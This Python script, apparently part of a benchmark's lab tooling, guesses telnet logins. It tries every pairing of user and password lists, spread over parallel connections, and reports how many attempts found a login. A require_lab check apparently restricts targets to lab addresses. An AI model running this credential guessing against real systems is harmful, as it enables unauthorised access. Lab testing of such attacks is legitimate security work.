"""Guess logins of a telnet server: several connections at once, some guesses on each."""

from __future__ import annotations

import argparse
import random
from concurrent.futures import ThreadPoolExecutor
from ipaddress import IPv4Address
from itertools import islice, product
from pathlib import Path

from benchmarks.lab.tools.guard import require_lab
from benchmarks.lab.tools.telnet import Telnet, log_in


def guess(host: str, port: int, logins: list[tuple[str, str]]) -> str:
    """Try some logins on one connection and say how it ended."""
    try:
        client = Telnet(host, port, 5.0)
    except OSError:
        return "unreachable"
    try:
        return "found" if log_in(client, logins) else "failed"
    except OSError:
        return "closed"
    finally:
        client.close()


def main() -> None:
    """Run the guesses named on the command line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("--port", type=int, default=23)
    parser.add_argument("--users", type=Path, required=True)
    parser.add_argument("--passwords", type=Path, required=True)
    parser.add_argument("--count", type=int, required=True, help="connections in all")
    parser.add_argument("--each", type=int, default=2, help="guesses on a connection")
    parser.add_argument("--parallel", type=int, default=6)
    options = parser.parse_args()
    require_lab([IPv4Address(options.host)])
    words = list(product(options.users.read_text().split(), options.passwords.read_text().split()))
    random.shuffle(words)
    chunks = (words[i : i + options.each] for i in range(0, len(words), options.each))
    with ThreadPoolExecutor(options.parallel) as pool:
        tries = islice(chunks, options.count)
        ends = list(pool.map(lambda logins: guess(options.host, options.port, logins), tries))
    print({end: ends.count(end) for end in set(ends)})


if __name__ == "__main__":
    main()
